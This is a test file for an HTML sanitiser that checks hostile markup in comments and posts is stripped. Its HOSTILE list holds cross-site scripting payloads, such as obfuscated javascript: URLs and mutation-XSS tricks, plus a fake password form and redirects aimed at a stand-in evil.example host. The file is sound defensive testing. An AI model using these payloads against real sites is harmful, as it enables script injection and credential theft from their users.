"""Nothing that a stranger writes can run, load, hide or pretend once it is sanitised."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from causerie.kit.html import Policy, sanitise, text_of
from tests.corpora import corpus

RUNNING = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "link", "meta"}
RUNNING |= {"base", "template", "noscript", "frame", "frameset", "applet", "textarea", "select", "marquee", "title"}
BAD_ADDRESS = re.compile(r"^\s*(?!https?://|mailto:|/(?![/\\])|#w-)", re.IGNORECASE)
ADDRESSES = {"href", "src", "cite", "poster", "action", "formaction", "background", "data", "srcset", "xlink:href"}


def dangers(html: str) -> list[str]:
    """What a browser would run, fetch or follow in `html` that it must not."""
    nodes = list(LexborHTMLParser(html).body.traverse()) if html.strip() else []
    found = [f"<{node.tag}>" for node in nodes if node.tag in RUNNING]
    for node in nodes:
        for name, value in node.attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "target", "name"):
                found.append(f"{node.tag} {name}")
            elif name in ADDRESSES and BAD_ADDRESS.match(value or ""):
                found.append(f"{node.tag} {name}={value}")
    return found


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/\\evil.example/x">x</a>',
    '<a href="https://friend.example@evil.example/">x</a>',
    '<a href="http:///x">x</a>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<p style="background:url(//evil.example)">x</p>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>',
    '<img srcset="https://evil.example/x 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<a name=attributes id=body><b id=body>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
PIECES = [*HOSTILE, "<p>", "</p>", "<b>", "</b>", '"', "'", "<", ">", "a", " ", "<img src=/-/media/x>"]


@pytest.mark.parametrize("policy", Policy)
@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html, policy):
    assert dangers(sanitise(html, policy)) == []


@pytest.mark.parametrize("policy", Policy)
@given(
    html=st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<b>", "</b>", '"', "'", "<", ">", "a", " "])).map("".join)
)
def test_any_mixture_is_harmless_and_settled(policy, html):
    clean = sanitise(html, policy)
    assert dangers(clean) == []
    assert sanitise(clean, policy) == clean


@pytest.mark.parametrize("policy", Policy)
def test_the_cases_of_bluemonday_are_harmless(policy):
    cases = json.loads(corpus("xss-bluemonday/cases.json").read_text("utf-8"))
    clean = [sanitise(case["In"], policy) for case in cases]
    assert [found for html in clean for found in dangers(html)] == []
    assert [sanitise(html, policy) for html in clean] == clean


@pytest.mark.parametrize("policy", Policy)
def test_naughty_strings_are_harmless_and_storable(policy):
    strings = json.loads(corpus("naughty-strings/blns.json").read_text("utf-8"))
    clean = [sanitise(string, policy) for string in strings]
    assert [found for html in clean for found in dangers(html)] == []
    assert "\x00" not in "".join(clean)
    assert "".join(text_of(string) for string in strings).encode()


def test_a_comment_keeps_its_words_and_marks_its_links():
    html = '<p>See <a href="https://tomas.example/x" class="u-url" rel="me">this</a>, <em>please</em>.</p>'
    assert sanitise(html, Policy.COMMENT) == (
        '<p>See <a href="https://tomas.example/x" rel="ugc nofollow noopener">this</a>, <em>please</em>.</p>'
    )


@pytest.mark.parametrize("html", ['<img src="https://a.example/x.png" alt="x">', '<p id="x" class="h-card">', "<h2>"])
def test_a_comment_has_no_images_ids_classes_or_headings(html):
    assert re.sub("</?p>", "", sanitise(html, Policy.COMMENT)) == ""


def test_a_post_keeps_its_pictures_and_they_wait_until_seen():
    html = sanitise('<figure><img src="/-/media/1/2026/a.png" alt="A quay"></figure>', Policy.POST)
    image = LexborHTMLParser(html).css_first("figure img").attributes
    assert image == {"src": "/-/media/1/2026/a.png", "alt": "A quay", "loading": "lazy", "decoding": "async"}


@pytest.mark.parametrize("source", ["../secret", "/etc/passwd", "data:image/png;base64,AA", "/-/media/../x", ""])
def test_a_picture_from_elsewhere_than_the_web_or_our_media_is_dropped(source):
    assert sanitise(f'<img src="{source}" alt="x">', Policy.POST) == ""


@pytest.mark.parametrize("policy", Policy)
def test_the_keyboard_reaches_code_that_is_wider_than_the_page(policy):
    assert sanitise("<pre tabindex=9>x</pre>", policy) == '<pre tabindex="0">x</pre>'


def test_ids_of_a_post_are_prefixed_once_and_links_to_them_follow():
    html = sanitise('<p id="comments">a</p><p id="comments">b</p><a href="#comments">c</a>', Policy.POST)
    assert html == '<p id="w-comments">a</p><p>b</p><a href="#w-comments">c</a>'
    assert sanitise(html, Policy.POST) == html


def test_classes_of_a_post_are_a_short_list():
    html = '<p class="h-card align-left">a</p><code class="language-c++ u-url">b</code>'
    assert sanitise(html, Policy.POST) == '<p class="align-left">a</p><code class="language-c++">b</code>'


@pytest.mark.parametrize("html", ["<b>" * 20_000, "<div><p>" * 20_000, "<" * 100_000, "<a href='" * 30_000])
def test_a_bomb_of_tags_is_flat_and_quick(html):
    assert sanitise(html + "x", Policy.POST).count("<") < 300 * 100


def test_text_reads_as_the_page_does():
    html = "<h2>Quay</h2>\n<p>One  <b>two</b><br>three</p><ul><li>a</li><li>b</li></ul><pre>x\n    y</pre>&lt;z&gt;"
    assert text_of(html) == "Quay\n\nOne two\nthree\n\na\n\nb\n\nx\n    y\n\n<z>"


def test_text_has_nothing_of_scripts():
    assert text_of("<p>a</p><script>alert(1)</script><style>b{}</style>") == "a"


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<a class="h-card mention u-url">a</a>', '<a class="h-card mention">a</a>'),
        ('<span class="h-card tok-k button">a</span>', '<span class="tok-k">a</span>'),
        (
            '<img src="/-/media/a" class="focus-x-3 focus-y-11">',
            'class="focus-x-3" alt="" decoding="async" loading="lazy">',
        ),
        ('<div role="note" tabindex="0">a</div>', '<div role="note" tabindex="0">a</div>'),
        ('<div role="alert" tabindex="3">a</div>', "<div>a</div>"),
        ('<p role="note" tabindex="0">a</p>', "<p>a</p>"),
        ('<data value="12345678">a</data>', '<data value="12345678">a</data>'),
        ('<a href="/" data-frame="https://player.vimeo.com/video/1">a</a>', None),
        ('<a href="/" data-frame="https://evil.example/">a</a>', '<a href="/">a</a>'),
        ('<p data-frame="https://player.vimeo.com/video/1">a</p>', "<p>a</p>"),
    ],
)
def test_blocks_of_a_document_keep_what_means_something_on_their_tag(html, kept):
    assert sanitise(html, Policy.POST).endswith(kept or html)
    assert sanitise(html, Policy.COMMENT).count("class") == 0


@given(st.text(alphabet="ab \t\n\r\f\u00a0\u3000\x85>;é"))
def test_plain_text_is_read_as_it_is_between_tags(text):
    assert text_of(text) == text_of(f"<i></i>{text}")
